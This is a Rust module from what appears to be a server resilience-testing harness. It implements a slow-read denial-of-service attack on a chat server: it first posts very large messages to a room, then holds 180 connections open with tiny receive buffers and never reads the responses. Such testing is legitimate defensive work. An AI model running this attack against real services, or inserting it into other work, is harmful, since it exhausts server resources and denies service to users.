//! Answers that are asked for and never taken: each is larger than the sockets hold.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncWriteExt, Interest};

use crate::greedy::attacks::attack::Attack;
use crate::greedy::attacks::client::Client;
use crate::greedy::attacks::prepared::{Prepared, send_all};
use crate::greedy::attacks::swarm::swarm;
use crate::greedy::requests;

/// The attack.
pub const ATTACK: Attack = Attack {
    name: "answers-never-taken",
    sources: 2,
    restarted_with: None,
    prepare: |client| Box::pin(prepare(client)),
    run: |client, _| Box::pin(run(client)),
};

const ROOM: &str = "greedy-answers";
const MESSAGES: usize = 17;
const CONNECTIONS: usize = 180;
const RECEIVE_BUFFER_BYTES: u32 = 4096;
/// Interval at which an attacker looks if it was ended.
const LOOK_EVERY: Duration = Duration::from_millis(500);

async fn prepare(client: Arc<Client>) -> io::Result<Prepared> {
    let prepared = Prepared::with_guests(&client, 1, ROOM).await?;
    let text = format!("**x**{}", "\"".repeat(65_531));
    let post = requests::post(ROOM, &prepared.tokens[0], &text, None, None);
    send_all(&client, vec![post; MESSAGES]).await?;
    Ok(prepared)
}

async fn run(client: Arc<Client>) {
    swarm(0..CONNECTIONS, |number, _| {
        let mut line = client.slow_line(number, RECEIVE_BUFFER_BYTES);
        async move {
            let request = requests::get(&format!("/{ROOM}"));
            loop {
                let Some(mut socket) = line.connect().await else { continue };
                line.tally.request(request.len());
                if let Err(error) = socket.write_all(&request).await {
                    line.failed(&error).await;
                    continue;
                }
                loop {
                    tokio::time::sleep(LOOK_EVERY).await;
                    match socket.ready(Interest::READABLE).await {
                        Ok(ready) if !ready.is_read_closed() => {}
                        Ok(_) => break line.tally.outcome("ended by the server"),
                        Err(error) => break line.failed(&error).await,
                    }
                }
            }
        }
    })
    .await;
}
